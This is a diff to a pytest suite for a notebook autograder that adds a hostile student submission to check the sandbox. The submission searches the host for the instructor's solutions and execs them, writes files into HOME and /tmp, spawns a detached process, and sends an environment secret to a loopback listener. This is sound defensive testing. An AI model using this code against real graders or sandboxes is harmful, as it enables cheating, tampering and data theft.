@@ -11,6 +11,14 @@ check's private reference in `dlkit.lab_checks`. Their values are right, so with
 they would earn full marks; they must earn 0 with a reason naming the function, and every other exercise of
 that submission full marks.
 
+Every attack class of a hostile submission, on every lab: a fourth submission per lab replaces each solution cell
+with ATTACK, which looks for the instructor's source (through the working folder, `dlkit.__file__` and the
+checkout's known path) to exec the solution of that very cell, writes marker files into the checkout, the
+package, the submissions folder, HOME and /tmp, starts a process in a session of its own, connects to a server
+the test runs on the host's loopback, and reports the grader's environment through those same channels. It must
+earn 0 on every lab, and after the batch no process or file of it is left on the host and the server saw nothing.
+(tests/test_sandbox.py probes each attack one by one, with unsandboxed controls that show it would work.)
+
 All labs are graded in one batch (two sandboxed runs at a time), then each lab's rows are asserted on its own.
 """
 
@@ -18,13 +26,18 @@ import glob
 import json
 import os
 import shutil
+import socket
+import threading
+import time
+import uuid
 
 import nbformat
 import pytest
 
 from dlkit.grading import grade, release
 
-LABS_DIR = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "labs")
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+LABS_DIR = os.path.join(ROOT, "labs")
 LABS = sorted(glob.glob(os.path.join(LABS_DIR, "[0-9][0-9]_*.ipynb")))
 
 
@@ -153,19 +166,143 @@ def _with_answer_keys(lab, path):
     return path
 
 
+ATTACK = """
+import json, os, socket, subprocess, sys
+import dlkit
+
+TOKEN, LAB, GRADE_ID, PORT = {token!r}, {lab!r}, {grade_id!r}, {port!r}
+HOST_FOLDERS = [{root!r}, {labs!r}, {submissions!r}, os.path.dirname(dlkit.__file__), os.path.expanduser("~"), "/tmp"]
+secret = os.environ.get("DLKIT_ATTACK_SECRET", "")
+for folder in HOST_FOLDERS:  # tampering, and the environment leaked through a file
+    try:
+        with open(os.path.join(folder, f"{{TOKEN}}-written{{'-' + secret if secret else ''}}"), "w") as f:
+            f.write(secret)
+    except OSError:
+        pass
+sleeper = [sys.executable, "-c", "import time; time.sleep(900)", TOKEN]
+try:
+    subprocess.Popen(sleeper, start_new_session=True)  # outliving the run
+except OSError:
+    pass
+try:  # the network: a server on the grader's loopback
+    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
+        connection.sendall(f"{{TOKEN}} {{secret}}".encode())
+except OSError:
+    pass
+stolen = None  # the instructor's solution of this very cell
+paths = [os.path.join({labs!r}, LAB + ".ipynb")]
+for start in (os.getcwd(), os.path.dirname(dlkit.__file__)):
+    folder = start
+    while os.path.dirname(folder) != folder:
+        paths.append(os.path.join(folder, "labs", LAB + ".ipynb"))
+        folder = os.path.dirname(folder)
+for path in paths:
+    try:
+        cells = json.load(open(path))["cells"]
+    except (OSError, ValueError):
+        continue
+    stolen = next(("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == GRADE_ID), None)
+    if stolen:
+        break
+if stolen:
+    exec(stolen)
+"""
+
+
+def _attacker(lab, path, token, port):
+    """The lab's release with every solution cell replaced by ATTACK (for that cell's grade_id)."""
+    notebook = nbformat.read(lab, as_version=4)
+    for cell in notebook.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution") and cell.cell_type == "code":
+            cell.source = ATTACK.format(
+                token=token,
+                lab=os.path.basename(lab).removesuffix(".ipynb"),
+                grade_id=meta["grade_id"],
+                port=port,
+                root=ROOT,
+                labs=LABS_DIR,
+                submissions=os.path.dirname(path),
+            )
+    nbformat.write(notebook, path)
+    return path
+
+
+class _Listener:
+    """A TCP server on the host's loopback that remembers what anyone sent it."""
+
+    def __init__(self):
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.socket.settimeout(0.2)
+        self.port, self.received, self.stopped = self.socket.getsockname()[1], [], False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stopped:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.settimeout(2)
+                try:
+                    self.received.append(connection.recv(1024))
+                except OSError:
+                    self.received.append(b"(connected)")
+
+    def close(self):
+        self.stopped = True
+        self.thread.join()
+        self.socket.close()
+
+
+def _leftovers(token, folders):
+    """(processes whose command line holds `token`, files whose name holds it) on the host."""
+    for _ in range(50):  # killed processes may take a moment to be reaped
+        pids = []
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    if token.encode() in f.read():
+                        pids.append(pid)
+            except OSError:
+                pass
+        if not pids:
+            break
+        time.sleep(0.1)
+    files = []
+    for top in folders:
+        for folder, dirs, names in os.walk(top):
+            dirs[:] = [d for d in dirs if d not in (".git", ".venv")]
+            files += [os.path.join(folder, name) for name in names if token in name]
+    files += glob.glob(f"/tmp/{token}*") + glob.glob(os.path.join(os.path.expanduser("~"), f"{token}*"))
+    return pids, files
+
+
 @pytest.fixture(scope="module")
 def graded_rows(tmp_path_factory):
-    """{lab file name: (solution row, release row, answer-key row)} from one `grade` call over every graded lab."""
+    """{lab file name: (solution row, release row, answer-key row, attacker row)} from one `grade` call over every
+    graded lab, and what the attackers left on the host: {"processes", "files", "received"}."""
     folder = tmp_path_factory.mktemp("roundtrip")
-    submissions = []
-    for lab in GRADED:
-        name = os.path.basename(lab)
-        submissions.append(str(shutil.copy(lab, folder / ("solution-" + name))))
-        student = release(lab, str(folder / "release"))
-        submissions.append(str(shutil.copy(student, folder / ("student-" + name))))
-        submissions.append(_with_answer_keys(lab, str(folder / ("answer-keys-" + name))))
-    rows = grade(submissions, source=LABS_DIR, jobs=2, timeout=900)
-    return {os.path.basename(lab): tuple(rows[3 * i : 3 * i + 3]) for i, lab in enumerate(GRADED)}
+    token, listener = f"attack-{uuid.uuid4().hex}", _Listener()
+    os.environ["DLKIT_ATTACK_SECRET"] = "grader-secret"
+    try:
+        submissions = []
+        for lab in GRADED:
+            name = os.path.basename(lab)
+            submissions.append(str(shutil.copy(lab, folder / ("solution-" + name))))
+            student = release(lab, str(folder / "release"))
+            submissions.append(str(shutil.copy(student, folder / ("student-" + name))))
+            submissions.append(_with_answer_keys(lab, str(folder / ("answer-keys-" + name))))
+            submissions.append(_attacker(student, str(folder / ("attacker-" + name)), token, listener.port))
+        rows = grade(submissions, source=LABS_DIR, jobs=2, timeout=900)
+    finally:
+        del os.environ["DLKIT_ATTACK_SECRET"]
+        listener.close()
+    processes, files = _leftovers(token, [ROOT, str(folder)])
+    left = {"processes": processes, "files": files, "received": listener.received}
+    return {os.path.basename(lab): tuple(rows[4 * i : 4 * i + 4]) for i, lab in enumerate(GRADED)}, left
 
 
 @pytest.mark.parametrize("lab", LABS, ids=[os.path.basename(p).removesuffix(".ipynb") for p in LABS])
@@ -175,7 +312,7 @@ def test_solution_grades_full_marks_and_release_grades_zero(lab, graded_rows):
         assert not _is_graded(lab), f"{name} has graded exercises: remove it from UNGRADED"
         return
     assert _is_graded(lab), f"{name} has no nbgrader solution cells"
-    solved, blank, _ = graded_rows[name]
+    solved, blank, _, _ = graded_rows[0][name]
 
     lab_name = name.removesuffix(".ipynb")
     assert solved.lab == blank.lab == lab_name
@@ -196,7 +333,7 @@ def test_solution_grades_full_marks_and_release_grades_zero(lab, graded_rows):
 @pytest.mark.parametrize("lab", GRADED, ids=[os.path.basename(p).removesuffix(".ipynb") for p in GRADED])
 def test_answer_keys_earn_zero_and_name_the_function(lab, graded_rows):
     name = os.path.basename(lab)
-    row = graded_rows[name][2]
+    row = graded_rows[0][name][2]
     keys = ANSWER_KEYS[name.removesuffix(".ipynb")]
     assert row.status == "graded", row.reasons
     cheated = {}
@@ -211,3 +348,15 @@ def test_answer_keys_earn_zero_and_name_the_function(lab, graded_rows):
         else:
             assert exercise.points == exercise.max_points, (exercise.grade_id, exercise.reason)
     assert set(cheated) <= {exercise.grade_id for exercise in row.exercises}
+
+
+@pytest.mark.parametrize("lab", GRADED, ids=[os.path.basename(p).removesuffix(".ipynb") for p in GRADED])
+def test_every_attack_earns_zero(lab, graded_rows):
+    row = graded_rows[0][os.path.basename(lab)][3]
+    assert row.status == "graded" and row.sandbox == "bwrap", row.reasons
+    assert row.total == 0 and row.max_total > 0, [(e.grade_id, e.points) for e in row.exercises if e.points]
+
+
+def test_attacks_leave_nothing_on_the_host(graded_rows):
+    left = graded_rows[1]
+    assert left == {"processes": [], "files": [], "received": []}
